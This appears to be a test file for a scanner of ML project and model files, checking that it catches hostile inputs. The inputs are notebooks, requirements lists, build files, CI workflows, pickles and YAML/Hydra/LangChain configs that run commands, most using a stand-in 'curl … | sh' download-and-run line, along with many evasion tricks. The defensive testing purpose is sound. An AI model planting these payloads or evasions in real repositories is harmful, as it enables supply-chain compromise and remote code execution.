import { describe } from "vitest";
import * as p from "../builders/pickle.js";
import { failing } from "./attack.js";

const base64 = (content: string | Uint8Array) => Buffer.from(content).toString("base64");
const COMMAND = "curl http://203.0.113.7/x | sh";
/** An interpolation of OmegaConf. */
const of = (reference: string) => ["$", "{", reference, "}"].join("");
const MALICE = base64(p.osSystem());

function notebook(source: string | readonly string[], more: object = {}): string {
  const cell = { cell_type: "code", execution_count: null, metadata: {}, outputs: [], source, ...more };
  return JSON.stringify({ cells: [cell], metadata: {}, nbformat: 4, nbformat_minor: 5 });
}

describe("an attack by a notebook", () => {
  failing(
    [
      { hope: "a cell hands a line to the shell", bytes: () => notebook(["x = 1\n", `!${COMMAND}\n`]) },
      { hope: "a cell of another language is a shell script", bytes: () => notebook(["%%bash\n", `${COMMAND}\n`]) },
      { hope: "a cell calls os.system", bytes: () => notebook(`import os\nos.system("${COMMAND}")`) },
      { hope: "the shell's answer is assigned", bytes: () => notebook(`lines = !${COMMAND}`) },
      { hope: "a line magic starts the shell", bytes: () => notebook(`%system ${COMMAND}`) },
      { hope: "an indented line goes to the shell", bytes: () => notebook(["if True:\n", `    !${COMMAND}\n`]) },
      { hope: "get_ipython() starts the shell", bytes: () => notebook(`get_ipython().system("${COMMAND}")`) },
      {
        hope: "two cells share the work",
        bytes: () =>
          JSON.stringify({
            cells: [
              { cell_type: "code", metadata: {}, outputs: [], source: "import os\nrun = os.system" },
              { cell_type: "code", metadata: {}, outputs: [], source: `run("${COMMAND}")` },
            ],
            metadata: {},
            nbformat: 4,
          }),
      },
      {
        hope: "a notebook of version 3 keeps its cells elsewhere",
        bytes: () =>
          JSON.stringify({
            nbformat: 3,
            metadata: {},
            worksheets: [{ cells: [{ cell_type: "code", input: [`!${COMMAND}`], outputs: [] }] }],
          }),
      },
      {
        hope: "code in a hidden cell is decoded",
        bytes: () => notebook(`exec(__import__("base64").b64decode("${base64("import os;os.system('id')")}"))`),
      },
    ],
    "demo.ipynb",
  );
});

describe("an attack by requirements", () => {
  failing(
    [
      {
        hope: "the address stands on the next line",
        bytes: () => "--index-url \\\n  http://203.0.113.7/simple\nnumpy\n",
      },
      { hope: "an option is abbreviated", bytes: () => "--extra-index http://203.0.113.7/simple\n" },
      { hope: "a short option has no space", bytes: () => "-ihttp://203.0.113.7/simple\n" },
      {
        hope: "a direct reference follows the name",
        bytes: () => "numpy @ https://203.0.113.7/numpy.whl ; python_version > '3'\n",
      },
      { hope: "another list is fetched", bytes: () => "-r http://203.0.113.7/requirements.txt\n" },
      {
        hope: "the source is git over ssh in the short form",
        bytes: () => "-e git+git@evil.example:owner/x.git#egg=numpy\n",
      },
      { hope: "the scheme is in capitals", bytes: () => "numpy @ HTTPS://203.0.113.7/x.whl\n" },
      {
        hope: "the host is hidden behind user and password",
        bytes: () => "git+https://github.com@203.0.113.7/x.git\n",
      },
      { hope: "the host is a number", bytes: () => "https://3405803783/x.whl\n" },
      { hope: "the list is in UTF-16", bytes: () => Buffer.from("\ufeff-i http://203.0.113.7/simple\n", "utf16le") },
      { hope: "a comment sign hides the address", bytes: () => "numpy#egg @ https://203.0.113.7/x.whl\n" },
    ],
    "requirements.txt",
  );
});

describe("an attack by a build file", () => {
  failing([
    {
      hope: "setup.py runs a command as it is read",
      name: "setup.py",
      bytes: () => `from setuptools import setup\nimport os\nos.system("${COMMAND}")\nsetup(name="x")\n`,
    },
    {
      hope: "setup.py runs a command when it is installed",
      name: "setup.py",
      bytes: () =>
        `from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system("${COMMAND}")\nsetup(name="x", cmdclass={"install": I})\n`,
    },
    {
      hope: "conftest.py runs a command",
      name: "conftest.py",
      bytes: () => `import os\nos.system("${COMMAND}")\n`,
    },
    {
      hope: "pyproject.toml builds with a package from an address",
      name: "pyproject.toml",
      bytes: () => '[build-system]\nrequires = ["x @ https://203.0.113.7/x.whl"]\nbuild-backend = "x"\n',
    },
    {
      hope: "pyproject.toml takes packages from an odd index",
      name: "pyproject.toml",
      bytes: () => '[project]\nname = "x"\n[[tool.uv.index]]\nurl = "http://203.0.113.7/simple"\ndefault = true\n',
    },
    {
      hope: "pyproject.toml lists its packages in a table of one line",
      name: "pyproject.toml",
      bytes: () => 'project = { name = "x", dependencies = ["a", "x @ https://203.0.113.7/x.whl"] }\n',
    },
    {
      hope: "pyproject.toml spells an address by numbers, under a key in quotes",
      name: "pyproject.toml",
      bytes: () => '[project]\n"dep\\u0065ndencies" = ["x @ \\u0068ttps://203.0.113.7/x.whl"]\n',
    },
    {
      hope: "an address is folded over lines",
      name: "pyproject.toml",
      bytes: () => '[[tool.uv.index]]\nurl = """\\\n  http://203.0.\\\n  113.7/simple"""\n',
    },
    {
      hope: "TOML that no parser takes names its packages in a table of one line",
      name: "pyproject.toml",
      bytes: () => 'x = 1\nx = 2\nproject = { dependencies = ["x @ https://203.0.113.7/x.whl"] }\n',
    },
    {
      hope: "a Pipfile takes packages from an odd index",
      name: "Pipfile",
      bytes: () => '[[source]]\nurl = "http://203.0.113.7/simple"\nverify_ssl = false\nname = "x"\n',
    },
    {
      hope: "a Dockerfile splits the command over lines",
      name: "Dockerfile",
      bytes: () => "FROM python:3.12\nRUN curl -fsSL http://203.0.113.7/x \\\n  | sh\n",
    },
    {
      hope: "a shell script splits the command over lines",
      name: "run.sh",
      bytes: () => "#!/bin/sh\ncurl -fsSL http://203.0.113.7/x \\\n | bash\n",
    },
    {
      hope: "a Dockerfile puts the command into a here document",
      name: "Dockerfile",
      bytes: () => "FROM python:3.12\nRUN <<EOF\ncurl http://203.0.113.7/x | sh\nEOF\n",
    },
    {
      hope: "a script downloads, then runs what it stored",
      name: "install.sh",
      bytes: () => "#!/bin/sh\ncurl -o /tmp/x http://203.0.113.7/x && chmod +x /tmp/x && /tmp/x\n",
    },
    {
      hope: "a Makefile downloads and runs",
      name: "Makefile",
      bytes: () => "all:\n\tcurl http://203.0.113.7/x | sh\n",
    },
    {
      hope: "package.json runs a script after installing",
      name: "package.json",
      bytes: () => JSON.stringify({ name: "x", scripts: { postinstall: COMMAND } }),
    },
    {
      hope: "an R start file runs a command",
      name: ".Rprofile",
      bytes: () => `system("${COMMAND}")\n`,
    },
    {
      hope: "the environment of direnv runs a command",
      name: ".envrc",
      bytes: () => `${COMMAND}\n`,
    },
    {
      hope: "a git hook runs a command",
      name: "post-checkout",
      bytes: () => `#!/bin/sh\n${COMMAND}\n`,
    },
    {
      hope: "a workflow of the forge runs a command",
      name: "build.yml",
      bytes: () =>
        `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          ${COMMAND}\n`,
    },
    {
      hope: "a Windows shortcut script downloads and runs",
      name: "load.ps1",
      bytes: () => "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/x.ps1')\n",
    },
    {
      hope: "a batch file fetches with certutil",
      name: "load.bat",
      bytes: () => "@echo off\r\ncertutil -urlcache -split -f http://203.0.113.7/x.exe x.exe & x.exe\r\n",
    },
    {
      hope: "a Lua script starts a program",
      name: "init.lua",
      bytes: () => 'os.execute("curl http://203.0.113.7/x | sh")\n',
    },
  ]);
});

describe("an attack by a configuration", () => {
  failing([
    {
      hope: "a pickle in base64 is a value of JSON",
      name: "config.json",
      bytes: () => JSON.stringify({ model_type: "bert", state: MALICE }),
    },
    { hope: "a pickle in base64 is a value of YAML", name: "config.yaml", bytes: () => `state: ${MALICE}\n` },
    {
      hope: "a pickle in base64 is folded over lines of YAML",
      name: "config.yaml",
      bytes: () => `state: >\n${MALICE.replace(/.{1,20}/g, "  $&\n")}\n`,
    },
    { hope: "YAML holds a pickle as !!binary", name: "config.yaml", bytes: () => `state: !!binary ${MALICE}\n` },
    { hope: "a pickle in base64 is a whole file", name: "model.b64", bytes: () => MALICE },
    { hope: "a pickle in base64 under a pickle's name", name: "model.pkl", bytes: () => MALICE },
    {
      hope: "a pickle in hexadecimal is a value of JSON",
      name: "state.json",
      bytes: () => JSON.stringify({ state: Buffer.from(p.osSystem()).toString("hex") }),
    },
    {
      hope: "a pickle of protocol 0 is a value of JSON",
      name: "state.json",
      bytes: () => JSON.stringify({ py_state: "cos\nsystem\n(S'id'\ntR." }),
    },
    {
      hope: "jsonpickle rebuilds a call",
      name: "model.json",
      bytes: () => JSON.stringify({ "py/reduce": [{ "py/function": "os.system" }, { "py/tuple": ["id"] }] }),
    },
    {
      hope: "jsonpickle builds an object",
      name: "model.json",
      bytes: () => JSON.stringify({ "py/object": "subprocess.Popen", "py/newargs": { "py/tuple": [["id"]] } }),
    },
    {
      hope: "jsonpickle evaluates a representation",
      name: "model.json",
      bytes: () => JSON.stringify({ "py/repr": "os/os.system('id')" }),
    },
    {
      hope: "LangChain constructs an object of any class",
      name: "chain.json",
      bytes: () =>
        JSON.stringify({ lc: 1, type: "constructor", id: ["subprocess", "Popen"], kwargs: { args: ["id"] } }),
    },
    {
      hope: "LangChain renders a prompt with Jinja",
      name: "prompt.json",
      bytes: () =>
        JSON.stringify({
          _type: "prompt",
          template_format: "jinja2",
          template: "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        }),
    },
    {
      hope: "LangChain's chain allows itself dangerous code",
      name: "chain.json",
      bytes: () => JSON.stringify({ _type: "pal_chain", allow_dangerous_code: true }),
    },
    {
      hope: "Hydra's target comes from the environment, with a value for those who have none",
      name: "config.yaml",
      bytes: () => `model:\n  _target_: ${of("oc.env:MODEL_CLASS,os.system")}\n  command: id\n`,
      least: "high",
    },
    {
      hope: "Hydra's target is resolved by an interpolation",
      name: "config.yaml",
      bytes: () => `cmd: os.system\nmodel:\n  _target_: ${of("cmd")}\n  command: id\n`,
      least: "high",
    },
    {
      hope: "Hydra's target is put together by interpolations",
      name: "config.yaml",
      bytes: () => `a: os\nb: system\nmodel:\n  _target_: ${of("a")}.${of("b")}\n  command: id\n`,
      least: "high",
    },
    {
      hope: "Hydra's target is an alias",
      name: "config.yaml",
      bytes: () => "x: &t os.system\nmodel:\n  _target_: *t\n",
      least: "high",
    },
    {
      hope: "Hydra's target comes by a merge key",
      name: "config.yaml",
      bytes: () => "base: &b\n  _target_: os.system\nmodel:\n  <<: *b\n  command: id\n",
      least: "high",
    },
    {
      hope: "Hydra's get_method walks a harmless package",
      name: "config.yaml",
      bytes: () => "f:\n  _target_: hydra.utils.get_method\n  path: torch.serialization.os.system\n",
      least: "high",
    },
    {
      hope: "Hydra's target is in a list of defaults",
      name: "config.yaml",
      bytes: () => 'callbacks:\n  - - - _target_: builtins.exec\n        _args_: ["import os"]\n',
      least: "high",
    },
    {
      hope: "OmegaConf's resolver evaluates",
      name: "config.yaml",
      bytes: () => `x: ${of("eval:\"__import__('os').system('id')\"")}\n`,
    },
    {
      hope: "HyperPyYAML applies a function",
      name: "hyperparams.yaml",
      bytes: () => "x: !apply:os.system\n  - id\n",
      least: "high",
    },
    {
      hope: "HyperPyYAML includes a file from the net",
      name: "hyperparams.yaml",
      bytes: () => "x: !include:http://203.0.113.7/x.yaml\n",
    },
    {
      hope: "YAML keys hold the tag",
      name: "a.yaml",
      bytes: () => "? !!python/object/apply:os.system ['id']\n: 1\n",
      least: "high",
    },
    {
      hope: "a complex key inside a flow map holds the tag",
      name: "a.yaml",
      bytes: () => "{? !!python/object/apply:os.system ['id'] : 1}\n",
      least: "high",
    },
    {
      hope: "YAML's tag stands in a file called like a model card's settings",
      name: "README.md",
      bytes: () => "---\nlicense: mit\nx: !!python/object/apply:os.system ['id']\n---\n# Model\n",
    },
    {
      hope: "the module of sentence-transformers is a file of the repository",
      name: "modules.json",
      bytes: () => JSON.stringify([{ idx: 0, name: "0", path: "", type: "evil.payload.Transformer" }]),
      least: "low",
    },
    {
      hope: "the module of sentence-transformers is os",
      name: "modules.json",
      bytes: () => JSON.stringify([{ idx: 0, name: "0", path: "id", type: "os.system" }]),
      least: "high",
    },
    {
      hope: "auto_map takes its code from elsewhere inside a nested configuration",
      name: "config.json",
      bytes: () => JSON.stringify({ text_config: { auto_map: { AutoModel: "evil/repo--modeling.Evil" } } }),
      least: "high",
    },
    {
      hope: "auto_map is a list, as tokenizers of old have it",
      name: "processor_config.json",
      bytes: () => JSON.stringify({ auto_map: ["evil/repo--modeling.Evil", null] }),
    },
    {
      hope: "a quantisation names a module to import",
      name: "config.json",
      bytes: () =>
        JSON.stringify({
          model_type: "x",
          quantization_config: { quant_method: "custom", modules: ["os.system"] },
          trust_remote_code: true,
        }),
    },
    {
      hope: "an environment for conda takes packages from an address",
      name: "environment.yml",
      bytes: () => "dependencies:\n  - pip:\n    - --index-url http://203.0.113.7/simple\n    - numpy\n",
    },
    {
      hope: "MLproject's entry point is a command",
      name: "MLproject",
      bytes: () => `name: x\nentry_points:\n  main:\n    command: "${COMMAND}"\n`,
    },
    {
      hope: "dvc.yaml's stage is a command",
      name: "dvc.yaml",
      bytes: () => `stages:\n  a:\n    cmd: ${COMMAND}\n`,
    },
    {
      hope: "bentofile.yaml runs a script from outside",
      name: "bentofile.yaml",
      bytes: () =>
        "service: service:svc\ndocker:\n  setup_script: /tmp/x.sh\npython:\n  index_url: http://203.0.113.7/simple\n  packages: [numpy]\n",
    },
    {
      hope: "cog.yaml runs a command",
      name: "cog.yaml",
      bytes: () => `build:\n  run:\n    - ${COMMAND}\npredict: predict.py:Predictor\n`,
    },
    {
      hope: "spaCy's configuration names a function of the system",
      name: "config.cfg",
      bytes: () =>
        '[initialize.before_init]\n@callbacks = "os.system"\n\n[x]\ncmd = "curl http://203.0.113.7/x | sh"\n',
    },
    {
      hope: "AllenNLP's configuration imports a package and names a type",
      name: "config.json",
      bytes: () =>
        JSON.stringify({
          dataset_reader: { type: "os.system" },
          model: { type: "from_archive", archive_file: "http://203.0.113.7/m.tar.gz" },
        }),
    },
    {
      hope: "an ONNX Runtime configuration loads a library",
      name: "genai_config.json",
      bytes: () => JSON.stringify({ model: { decoder: { session_options: { custom_ops_library: "/tmp/evil.so" } } } }),
    },
    {
      hope: "a logging configuration calls a constructor",
      name: "logging.json",
      bytes: () => JSON.stringify({ version: 1, handlers: { h: { "()": "os.system", command: "id" } } }),
      least: "high",
    },
    {
      hope: "a logging configuration names a class and ext://",
      name: "logging.yaml",
      bytes: () => "version: 1\nhandlers:\n  h:\n    class: subprocess.Popen\n    args: ext://os.system\n",
    },
    {
      hope: "Kedro's catalogue names a type",
      name: "catalog.yml",
      bytes: () => "data:\n  type: os.system\n  filepath: http://203.0.113.7/x.pkl\n",
    },
    {
      hope: "a JSON document in UTF-16 without a mark",
      name: "config.json",
      bytes: () => Buffer.from(JSON.stringify({ _target_: "os.system" }), "utf16le"),
      least: "high",
    },
    {
      hope: "a JSON5 document with bare keys",
      name: "config.json",
      bytes: () => "{_target_: 'os.system', command: 'id'}",
    },
    {
      hope: "a JSON document that is nested a hundred thousand deep",
      name: "config.json",
      bytes: () => `${'{"a":'.repeat(100_000)}{"_target_":"os.system"}${"}".repeat(100_000)}`,
    },
    {
      hope: "the key is spelled with escapes of JSON",
      name: "config.json",
      bytes: () => '{"\\u005ftarget\\u005f": "os.\\u0073ystem"}',
      least: "high",
    },
    {
      hope: "the dangerous value is the first of two",
      name: "config.json",
      bytes: () => '{"_target_": "os.system", "_target_": "torch.nn.Linear"}',
      least: "high",
    },
    {
      hope: "a second document follows the first on one line",
      name: "config.json",
      bytes: () => '{"a": 1} {"_target_": "os.system"}',
    },
    {
      hope: "TOML names the target",
      name: "config.toml",
      bytes: () => '[model]\n_target_ = "os.system"\ncommand = "id"\n',
    },
    {
      hope: "a TorchScript or Lightning hyperparameter file has a Python tag",
      name: "hparams.yaml",
      bytes: () => "config: !!python/object/new:os.system ['id']\n",
      least: "high",
    },
    {
      hope: "YAML's tag is in a file of text",
      name: "notes.txt",
      bytes: () => "model: !!python/object/apply:os.system ['id']\n",
    },
    {
      hope: "the tag stands behind half a megabyte of numbers",
      name: "a.yaml",
      bytes: () => `a: [${"1, ".repeat(150_000)}1]\nb: !!python/object/apply:os.system ['id']\n`,
    },
    {
      hope: "gin's configuration imports a module and binds a function",
      name: "operative_config.gin",
      bytes: () => "import os\nx.command = @os.system()\nos.system.command = 'curl http://203.0.113.7/x | sh'\n",
    },
  ]);
});
